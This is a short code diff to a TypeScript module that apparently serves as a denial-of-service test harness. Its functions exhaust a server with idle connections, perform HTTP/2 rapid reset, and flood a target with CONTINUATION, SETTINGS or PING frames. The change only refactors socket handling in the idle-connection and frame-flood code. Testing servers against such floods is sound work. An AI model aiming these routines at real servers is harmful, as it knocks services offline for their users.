@@ -33,6 +33,8 @@ export async function idleConnections(
   const sockets: Socket[] = []
   for (let n = 0; n < count; n += 100)
     sockets.push(...(await Promise.all(Array.from({ length: 100 }, () => openConnection(address)))))
+  // Unread, what the server said would hide that it has hung up.
+  for (const socket of sockets) socket.resume()
   return {
     open: () => sockets.filter(({ closed, destroyed }) => !closed && !destroyed).length,
     [Symbol.dispose]() {
@@ -62,6 +64,14 @@ export async function rapidReset(
   return sent
 }
 
+/** Until there is room again, or nobody to write to. */
+function written(socket: Socket): Promise<void> {
+  return new Promise((resolve) => {
+    socket.once('drain', resolve)
+    socket.once('close', () => resolve())
+  })
+}
+
 const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
 const FRAME = { headers: 1, settings: 4, ping: 6, continuation: 9 } as const
 
@@ -89,8 +99,7 @@ export async function frameFlood(address: string, kind: 'continuation' | 'settin
   }[kind]
   if (kind === 'continuation') socket.write(frame('headers', 1, header))
   let sent = 0
-  for (; sent < count && socket.writable; sent++)
-    if (!socket.write(one)) await Promise.race([once(socket, 'drain'), once(socket, 'close')])
+  for (; sent < count && socket.writable; sent++) if (!socket.write(one)) await written(socket)
   socket.destroy()
   return sent
 }
